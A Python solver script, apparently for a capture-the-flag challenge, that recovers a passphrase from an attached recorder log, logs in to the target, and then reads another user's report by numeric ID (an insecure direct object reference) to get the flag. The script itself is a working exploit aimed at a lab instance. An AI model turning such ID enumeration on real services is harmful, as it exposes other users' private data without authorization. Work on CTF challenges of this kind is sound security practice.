"""solve.py URL FOLDER: FOLDER holds the instance's attachments.

Prints `question answer` for the earlier stages; the last line is the flag.
"""

import re
import sys
from html import unescape
from pathlib import Path
from urllib.request import Request, urlopen

url = sys.argv[1].rstrip("/")
recording = Path(sys.argv[2], "recorder.log").read_text(encoding="utf-8")
passphrase = bytes.fromhex(re.search(r"> ([0-9a-f]{64})\s", recording)[1]).decode()[::-1]
print("passphrase", passphrase)

with urlopen(Request(f"{url}/login", f"passphrase={passphrase}".encode()), timeout=10) as response:
    session = response.headers["Set-Cookie"].split(";")[0]


def read(path):
    with urlopen(Request(url + path, headers={"Cookie": session}), timeout=10) as response:
        return unescape(response.read().decode())


print("operator", re.search(r"(\w+)\s+added maintenance access", read("/audit"))[1])
print("weakness Reports are fetched by number, and nobody checks whose they are")
print(re.search(r"FLAG\{[0-9a-f]{32}\}", read("/reports/0"))[0])
